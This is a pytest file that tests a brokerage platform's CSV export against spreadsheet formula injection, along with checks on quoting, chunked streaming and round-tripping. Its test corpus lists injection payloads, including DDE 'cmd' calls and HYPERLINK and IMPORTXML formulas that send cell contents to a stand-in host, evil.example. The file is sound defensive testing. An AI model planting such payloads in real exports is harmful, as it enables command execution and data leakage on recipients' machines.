"""CSV: quoting, formulas, pieces."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from brokerage.platform.reporting import CHUNK_ROWS, csv_lines, text_cell, text_uncell

#: What people try: formulas of spreadsheets, bare, behind blanks and quotes, in full width, behind other locales' separators.
CORPUS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1+1", "＠x",
    "=IMPORTXML(CONCAT(\"http://evil.example?\", A1), \"//a\")", "-1-1", "+-1", "=-1", "-1e5", "--1", "+",
)  # fmt: skip
HIDDEN = ("a;=1+1", 'a","=1+1', "a\n=1+1", "a\t=1+1", "a|=1+1", "a\r\n=1+1")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1"])
def test_text_that_would_run_is_quoted(text: str) -> None:
    assert text_cell(text) == f"'{text}"


@pytest.mark.parametrize(("text", "wanted"), [("abc", "abc"), ("a=1", "a=1"), ("", ""), (None, "")])
def test_other_text_stays(text: str | None, wanted: str) -> None:
    assert text_cell(text) == wanted


def test_numbers_are_never_quoted_and_none_is_empty() -> None:
    raw = b"".join(csv_lines(("amount", "note"), [("-1.50", "-x"), (None, 'a,"b"')], ("note",)))
    assert raw == b'amount,note\r\n-1.50,"\'-x"\r\n,"a,""b"""\r\n'


def test_a_long_file_comes_in_pieces_and_is_whole() -> None:
    rows = [(str(number),) for number in range(CHUNK_ROWS * 2 + 1)]
    pieces = list(csv_lines(("n",), iter(rows), ()))
    assert len(pieces) == 3
    read = list(csv.reader(io.StringIO(b"".join(pieces).decode())))
    assert read == [["n"], *[list(row) for row in rows]]


def test_nothing_is_read_before_it_is_asked_for() -> None:
    taken = []

    def rows():
        for number in range(10_000):
            taken.append(number)
            yield (str(number),)

    pieces = csv_lines(("n",), rows(), ())
    next(pieces)
    assert len(taken) == CHUNK_ROWS


def read(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("columns", [("note",), ()], ids=["declared text", "any column"])
def test_no_formula_reaches_a_cell_in_any_column(text: str, columns: tuple[str, ...]) -> None:
    cell = read(b"".join(csv_lines(("note",), [(text,)], columns)))[1][0]
    assert cell == f"'{text}"
    assert text_uncell(cell) == text


@pytest.mark.parametrize("text", HIDDEN)
def test_no_text_opens_a_cell_or_row_of_its_own(text: str) -> None:
    raw = b"".join(csv_lines(("a", "b"), [(text, "1")], ("a",)))
    assert read(raw)[1] == [text, "1"]
    # Quoted as a whole, so that a spreadsheet that splits at another separator does not split inside.
    assert raw.splitlines()[1].startswith(b'"')


@pytest.mark.parametrize("number", ["-1", "+1", "0", "-0.00000001", "123456789012345678901234567890.5"])
def test_typed_numbers_stay_numbers(number: str) -> None:
    assert read(b"".join(csv_lines(("amount",), [(number,)], ())))[1] == [number]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.tuples(st.text(), st.text(alphabet="=+-@\t\r\n' 1a;,\"|＝")), min_size=1, max_size=8))
def test_whatever_is_written_comes_back_and_nothing_starts_a_formula(rows: list[tuple[str, str]]) -> None:
    raw = b"".join(csv_lines(("a", "b"), [(f"x{first}", second) for first, second in _clean(rows)], ("a", "b")))
    found = read(raw)[1:]
    assert [(text_uncell(first)[1:], text_uncell(second)) for first, second in found] == _clean(rows)
    for row in found:
        for cell in row:
            assert cell.lstrip()[:1] not in set("=+-@＝＋－＠")


def _clean(rows: list[tuple[str, str]]) -> list[tuple[str, str]]:
    """Without what UTF-8 or Python's own reader cannot carry; the edges refuse these before."""
    gone = dict.fromkeys((*range(55296, 57344), 0))
    return [(first.translate(gone), second.translate(gone)) for first, second in rows]
